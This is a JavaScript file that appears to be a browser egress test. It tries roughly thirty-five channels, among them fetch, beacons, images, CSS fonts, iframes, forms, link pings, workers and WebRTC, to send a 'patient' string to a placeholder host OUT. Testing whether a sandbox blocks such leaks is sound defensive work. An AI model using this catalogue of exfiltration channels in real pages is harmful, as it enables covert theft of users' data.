// Tries every way by which a page can make a browser send data elsewhere: to OUT, with the name of the way in the path.
window.tried = [];
(async () => {
  const attempt = (name, what) => {
    window.tried.push(name);
    try { what(`${OUT}/hit/${name}`); } catch (error) { console.log(name, error.name); }
  };
  const add = (tag, fields) => {
    const element = Object.assign(document.createElement(tag), fields);
    document.body.append(element);
    return element;
  };
  const style = (text) => { add("style", { textContent: text }); };
  attempt("fetch", (to) => { fetch(to, { mode: "no-cors", method: "POST", body: "patient" }).catch(() => {}); });
  attempt("xhr", (to) => { const ask = new XMLHttpRequest(); ask.open("POST", to); ask.send("patient"); });
  attempt("websocket", (to) => { new WebSocket(to.replace("http", "ws")); });
  attempt("event-source", (to) => { new EventSource(to); });
  attempt("beacon", (to) => { navigator.sendBeacon(to, "patient"); });
  attempt("image", (to) => { new Image().src = to; });
  attempt("background", (to) => { add("p", { textContent: "x" }).style.backgroundImage = `url(${to})`; });
  attempt("svg-image", (to) => { add("div", { innerHTML: `<svg><image href="${to}" width="9" height="9"/></svg>` }); });
  attempt("video", (to) => { add("video", { src: to, preload: "auto" }); });
  attempt("audio", (to) => { add("audio", { src: to, preload: "auto" }); });
  attempt("track", (to) => { add("video", { innerHTML: `<track default kind="captions" src="${to}">` }); });
  attempt("font", (to) => { style(`@font-face { font-family: f; src: url(${to}); } body { font-family: f; }`); });
  attempt("style-import", (to) => { style(`@import url(${to});`); });
  attempt("style-link", (to) => { add("link", { rel: "stylesheet", href: to }); });
  attempt("script", (to) => { add("script", { src: to }); });
  attempt("module", (to) => { import(to).catch(() => {}); });
  attempt("frame", (to) => { add("iframe", { src: to }); });
  attempt("object", (to) => { add("object", { data: to }); });
  attempt("embed", (to) => { add("embed", { src: to }); });
  attempt("form", (to) => {
    add("iframe", { name: "sink" });
    add("form", { action: to, method: "post", target: "sink", innerHTML: '<input name="p" value="patient">' }).submit();
  });
  attempt("form-navigated", (to) => {
    const frame = add("iframe", { srcdoc: `<form action="${to}" method="post"></form><script>document.forms[0].submit()<\/script>` });
    frame.name = "inner";
  });
  attempt("prefetch", (to) => { add("link", { rel: "prefetch", href: to }); });
  attempt("preload", (to) => { add("link", { rel: "preload", as: "image", href: to }); });
  attempt("modulepreload", (to) => { add("link", { rel: "modulepreload", href: to }); });
  attempt("manifest", (to) => { add("link", { rel: "manifest", href: to }); });
  attempt("ping", (to) => { add("a", { href: "#here", ping: to, textContent: "x" }).click(); });
  attempt("worker", (to) => {
    new Worker(URL.createObjectURL(new Blob([`fetch("${to}", { mode: "no-cors" }); importScripts("${to}");`])));
  });
  attempt("srcdoc", (to) => { add("iframe", { srcdoc: `<img src="${to}">` }); });
  attempt("blob-frame", (to) => {
    add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to}">`], { type: "text/html" })) });
  });
  attempt("data-frame", (to) => { add("iframe", { src: `data:text/html,<img src='${to}'>` }); });
  attempt("blank-frame", (to) => {
    const frame = add("iframe", {});
    frame.contentDocument.write(`<img src="${to}">`);
  });
  attempt("window-open", (to) => { window.open(to); });
  attempt("webrtc", () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: STUN }] });
    peer.createDataChannel("patient");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  setTimeout(() => { window.done = true; }, 2500);
})();
